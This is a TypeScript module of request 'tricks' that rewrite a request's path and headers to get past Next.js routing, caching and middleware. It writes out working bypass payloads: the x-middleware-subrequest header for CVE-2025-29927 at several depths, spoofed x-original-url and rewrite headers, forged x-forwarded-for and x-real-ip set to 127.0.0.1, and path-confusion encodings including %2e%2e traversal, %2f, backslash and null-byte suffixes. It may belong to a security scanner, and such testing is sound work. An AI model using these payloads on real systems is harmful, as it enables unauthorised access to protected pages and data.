/** ClickPaths to ask for one address that have fooled a router, a cache or a middleware before. */
import type { Call } from "./send";

type Trick = (call: Call) => Call;

const withHeaders =
  (headers: Record<string, string>): Trick =>
  (call) => ({ ...call, headers: { ...call.headers, ...headers } });

const withPath =
  (change: (pathname: string) => string): Trick =>
  (call) => {
    const [pathname = "", query] = call.path.split("?");
    return { ...call, path: change(pathname) + (query === undefined ? "" : `?${query}`) };
  };

/** Next calls the home page "/index" where its name needs an ending. */
const named = (pathname: string) => (pathname === "/" ? "/index" : pathname);

/** Next's own marks of a request that the middleware made itself (CVE-2025-29927), by where the file may lie. */
const subrequest = (name: string) => withHeaders({ "x-middleware-subrequest": Array(5).fill(name).join(":") });

export const pathTricks: Record<string, Trick> = {
  plain: (call) => call,
  ".rsc": withPath((pathname) => `${named(pathname)}.rsc`),
  "RSC: 1": withHeaders({ rsc: "1" }),
  "RSC prefetch": withHeaders({ rsc: "1", "next-router-prefetch": "1" }),
  "RSC segment prefetch": withHeaders({
    rsc: "1",
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": "/_tree",
  }),
  ".segment.rsc": withPath((pathname) => `${named(pathname)}.segments/_tree.segment.rsc`),
  "_next/data": withPath((pathname) => `/_next/data/build${named(pathname)}.json`),
  "x-nextjs-data": withHeaders({ "x-nextjs-data": "1" }),
  "x-middleware-subrequest": withHeaders({ "x-middleware-subrequest": "middleware" }),
  "x-middleware-subrequest, five deep": subrequest("middleware"),
  "x-middleware-subrequest, src": subrequest("src/middleware"),
  "x-middleware-subrequest, pages": subrequest("pages/_middleware"),
  "x-middleware-next": withHeaders({ "x-middleware-next": "1", "x-middleware-rewrite": "/history" }),
  "x-original-url": withHeaders({ "x-original-url": "/auth", "x-rewrite-url": "/auth", "x-matched-path": "/auth" }),
  "x-forwarded": withHeaders({
    "x-forwarded-for": "127.0.0.1",
    "x-forwarded-proto": "https",
    "x-real-ip": "127.0.0.1",
  }),
  "// in front": withPath((pathname) => `/${pathname}`),
  "// inside": withPath((pathname) => pathname.replaceAll("/", "//")),
  backslash: withPath((pathname) => pathname.replace(/^\//, "/\\")),
  "%2e": withPath((pathname) => `/%2e${pathname}`),
  "%2e%2e": withPath((pathname) => `/auth/%2e%2e${pathname}`),
  "a letter encoded": withPath((pathname) =>
    pathname.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  ),
  "%2f": withPath((pathname) => `/${pathname.slice(1).replaceAll("/", "%2f")}`),
  "upper case": withPath((pathname) => pathname.toUpperCase()),
  "trailing slash": withPath((pathname) => (pathname === "/" ? pathname : `${pathname}/`)),
  "; and null byte": withPath((pathname) => `${pathname};x=1%00`),
  "method override": withHeaders({ "x-http-method-override": "GET", "x-method-override": "GET" }),
};
